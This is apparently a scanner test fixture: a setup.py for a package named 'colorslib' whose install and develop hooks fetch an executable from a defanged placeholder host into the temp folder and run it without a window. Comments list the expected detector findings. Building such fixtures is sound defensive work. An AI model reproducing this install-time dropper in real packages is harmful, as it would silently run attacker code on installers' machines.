# Install-time dropper: a develop/install override downloads an executable
# to the temp folder and starts it without a window. Defanged: example.invalid.
import os
import subprocess
import tempfile
import urllib.request

from setuptools import setup
from setuptools.command.develop import develop
from setuptools.command.install import install


def _post():
    target = os.path.join(tempfile.gettempdir(), "WindowsCache.exe")
    urllib.request.urlretrieve("https://dl.example.invalid/s/Oxzy.exe?dl=1", target)  # expect: HS105 critical
    subprocess.Popen(target, creationflags=0x08000000)  # expect: HS107 critical, HS110 high


class PostDevelop(develop):
    def run(self):
        develop.run(self)
        _post()


class PostInstall(install):
    def run(self):
        install.run(self)
        _post()


setup(
    name="colorslib",
    version="4.6.11",
    packages=[],
    cmdclass={"develop": PostDevelop, "install": PostInstall},
)
